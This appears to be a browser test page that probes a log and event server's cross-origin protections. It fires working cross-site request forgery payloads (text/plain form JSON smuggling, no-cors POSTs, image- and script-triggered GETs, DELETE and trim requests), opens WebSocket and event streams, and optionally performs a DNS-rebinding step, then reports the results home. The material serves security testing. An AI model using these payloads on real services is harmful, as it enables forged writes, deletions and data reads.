// What a web page can try with a server. Each attempt ends with a word; the page tells them all to the site it is from.
'use strict';

const EVENT = '{"events":[{"type":"EVIL"}]}';
const CALL = '{"f":"futoin.evt.gen:1.1:addEvent","p":{"type":"EVIL","data":1}}';
const ADD = '/futoin/default/futoin.evt.gen/1.1/addEvent?type=EVIL&data=1';
const REGISTER = '/futoin/default/futoin.evt.poll/1.1/registerConsumer?component=EVIL';
const NOTIFICATIONS = '/ocloudNotifications/v2/create/event';
const CLOUDEVENT = JSON.stringify({
  specversion: '1.0', id: 'e1', source: '/evil', type: 'event.sync.sync-status.synchronization-state-change',
  time: '2026-01-01T00:00:00Z',
  data: {version: '1.0', values: [{data_type: 'notification', ResourceAddress: '/evil', value_type: 'enumeration', value: 'FREERUN'}]},
});
const SUBSCRIBE = '/logs/default/subscribe?query=all&after=0';

// An answer that the page can read, or one that it only knows to have come.
const ask = async (target, path, options) => {
  const answer = await fetch(target + path, options);
  return answer.type === 'opaque' ? 'sent' : answer.ok ? 'read' : `answered ${answer.status}`;
};
const unasked = (target, path, body) => ask(target, path, {method: 'POST', mode: 'no-cors', body});
const untyped = (text) => new Blob([text]);

const loaded = (element) => new Promise((resolve, reject) => {
  element.onload = () => resolve('loaded');
  element.onerror = () => reject(new Error('not loaded'));
  document.body.append(element);
});

const websocket = (target) => new Promise((resolve, reject) => {
  const socket = new WebSocket(`${target.replace(/^http/, 'ws')}/futoin/default`);
  socket.onopen = () => resolve('opened');
  socket.onerror = () => reject(new Error('not opened'));
});

const stream = (target) => new Promise((resolve, reject) => {
  const source = new EventSource(target + SUBSCRIBE);
  source.onmessage = (message) => { source.close(); resolve(`read ${JSON.parse(message.data).event.type}`); };
  source.onerror = () => { source.close(); reject(new Error('not opened')); };
});

// A form whose body is JSON: the name of its field, `=`, and its value.
const form = (target, path, enctype, name, value) => new Promise((resolve) => {
  const frame = Object.assign(document.createElement('iframe'), {name: `frame${Math.random()}`, onload: () => resolve('shown')});
  const sent = Object.assign(document.createElement('form'), {action: target + path, method: 'post', enctype, target: frame.name});
  sent.append(Object.assign(document.createElement('input'), {name, value}));
  document.body.append(frame, sent);
  sent.submit();
});

const ATTACKS = {
  read: (target) => ask(target, '/logs'),
  metrics: (target) => ask(target, '/metrics'),
  health: (target) => ask(target, '/health/live'),
  futoinGet: (target) => ask(target, ADD),
  futoinGetUnasked: (target) => ask(target, ADD, {mode: 'no-cors'}),
  futoinImage: (target) => loaded(Object.assign(new Image(), {src: target + ADD})),
  futoinSilentImage: (target) => loaded(Object.assign(new Image(), {referrerPolicy: 'no-referrer', src: target + ADD})),
  futoinScript: (target) => loaded(Object.assign(document.createElement('script'), {src: target + ADD})),
  futoinFrame: (target) => loaded(Object.assign(document.createElement('iframe'), {src: target + ADD})),
  futoinText: (target) => unasked(target, '/futoin/default', CALL),
  futoinUntyped: (target) => unasked(target, '/futoin/default', untyped(CALL)),
  futoinBeacon: async (target) => String(navigator.sendBeacon(`${target}/futoin/default`, CALL)),
  futoinForm: (target) => form(target, '/futoin/default', 'text/plain', CALL.replace('1}}', '"'), '"}}'),
  notification: (target) => unasked(target, NOTIFICATIONS, CLOUDEVENT),
  notificationUntyped: (target) => unasked(target, NOTIFICATIONS, untyped(CLOUDEVENT)),
  appendText: (target) => unasked(target, '/logs/default/append', EVENT),
  appendUntyped: (target) => unasked(target, '/logs/default/append', untyped(EVENT)),
  appendJson: (target) => ask(target, '/logs/default/append',
    {method: 'POST', body: EVENT, headers: {'content-type': 'application/json'}}),
  appendForm: (target) => form(target, '/logs/default/append', 'text/plain', '{"events":[{"type":"EVIL","data":"', '"}]}'),
  suite: (target) => unasked(target, '/dcb/default/append', untyped('{"events":[{"type":"EVIL","tags":[],"data":"x"}]}')),
  trimText: (target) => unasked(target, '/logs/default/trim', '{"below":3}'),
  trimUntyped: (target) => unasked(target, '/logs/default/trim', untyped('{"below":3}')),
  delete: (target) => ask(target, '/logs/default', {method: 'DELETE'}),
  create: (target) => ask(target, '/logs/evil', {method: 'PUT'}),
  futoinRegister: (target) => ask(target, REGISTER, {mode: 'no-cors'}),
  websocket,
  stream,
};

const USES = {
  read: (target) => ask(target, '/logs'),
  head: async (target) => `at ${(await fetch(`${target}/logs/default/read`, {
    method: 'POST', body: '{"query":"all"}', headers: {'content-type': 'application/json'},
  })).headers.get('headwater-head')}`,
  append: (target) => ask(target, '/logs/default/append',
    {method: 'POST', body: '{"events":[{"type":"Allowed"}]}', headers: {'content-type': 'application/json'}}),
  error: async (target) => JSON.parse(await (await fetch(`${target}/logs/none`)).text()).type,
  credentials: (target) => ask(target, '/logs', {headers: {authorization: 'Bearer hw_any'}}),
  futoin: (target) => ask(target, '/futoin/default',
    {method: 'POST', body: CALL.replace('EVIL', 'GOOD'), headers: {'content-type': 'application/json'}}),
  websocket,
  stream,
};

const tryAll = async (attempts, target) => {
  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      found[name] = await attempt(target);
    } catch (error) {
      found[name] = 'refused';
    }
  }
  return found;
};

// What to do, where, and where to tell it stand in the fragment: a rebound name has another site behind it by then.
const main = async () => {
  const {what, target, site} = JSON.parse(decodeURIComponent(location.hash.slice(1)));
  if (what === 'rebound') {
    await fetch(`${site}/rebind`, {method: 'POST', mode: 'no-cors'});
  }
  const found = await tryAll(what === 'use' ? USES : ATTACKS, target);
  await fetch(`${site}/report`, {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});
};

main();
